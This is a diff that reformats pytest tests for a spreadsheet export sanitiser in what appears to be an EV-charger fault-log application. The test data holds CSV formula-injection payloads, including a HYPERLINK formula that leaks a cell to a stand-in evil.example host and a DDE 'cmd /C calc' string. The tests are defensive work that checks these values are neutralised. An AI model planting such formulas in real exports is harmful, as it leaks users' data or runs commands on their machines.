@@ -20,18 +20,21 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 SHORT_LINK = '=HYPERLINK("http://evil.example","Click")'  # fits OCPP's 50-character info
 
 
-@pytest.mark.parametrize(("text", "expected"), [
-    (HYPERLINK, "'" + HYPERLINK),
-    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("-12.50", "-12.50"),  # a formatted negative figure is a number, not a formula
-    ("+46 70 123", "'+46 70 123"),
-    ("GroundFailure", "GroundFailure"),
-    ("", ""),
-])
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-12.50", "-12.50"),  # a formatted negative figure is a number, not a formula
+        ("+46 70 123", "'+46 70 123"),
+        ("GroundFailure", "GroundFailure"),
+        ("", ""),
+    ],
+)
 def test_formula_leading_text_gets_an_apostrophe_and_plain_text_and_numbers_do_not(text, expected):
     assert inert_text(text) == expected
 
@@ -51,8 +54,9 @@ def test_a_csv_download_holds_inert_text_and_its_negative_numbers_as_numbers():
 
 
 def test_an_xlsx_download_has_no_formula_and_keeps_negative_numbers_numeric():
-    content = xlsx_bytes([Table(key="t", title="T", headers=["a", "b", "c", "d", "e"],
-                                rows=[[*ROW, "bell\x07in text"]])])
+    content = xlsx_bytes(
+        [Table(key="t", title="T", headers=["a", "b", "c", "d", "e"], rows=[[*ROW, "bell\x07in text"]])]
+    )
     sheet = load_workbook(io.BytesIO(content)).worksheets[0]
     cells = list(sheet.iter_rows(min_row=2))[0]
     assert all(cell.data_type != "f" for cell in cells)
@@ -62,9 +66,15 @@ def test_an_xlsx_download_has_no_formula_and_keeps_negative_numbers_numeric():
 
 def test_a_chargers_vendor_error_text_is_inert_in_the_fault_log_exports(client, world):
     connector = world.cp_a.connectors.get(number=1)
-    StatusEvent.objects.create(charge_point=world.cp_a, connector=connector, status="Faulted",
-                               error_code="OtherError", vendor_error_code="=1+2", info=SHORT_LINK,
-                               timestamp=datetime(2026, 3, 10, 10, tzinfo=UTC))
+    StatusEvent.objects.create(
+        charge_point=world.cp_a,
+        connector=connector,
+        status="Faulted",
+        error_code="OtherError",
+        vendor_error_code="=1+2",
+        info=SHORT_LINK,
+        timestamp=datetime(2026, 3, 10, 10, tzinfo=UTC),
+    )
     client.force_login(world.carol)
     params = {"period": "month", "day": "2026-03-15"}
     with time_machine.travel(datetime(2026, 4, 5, 12, tzinfo=UTC), tick=False):
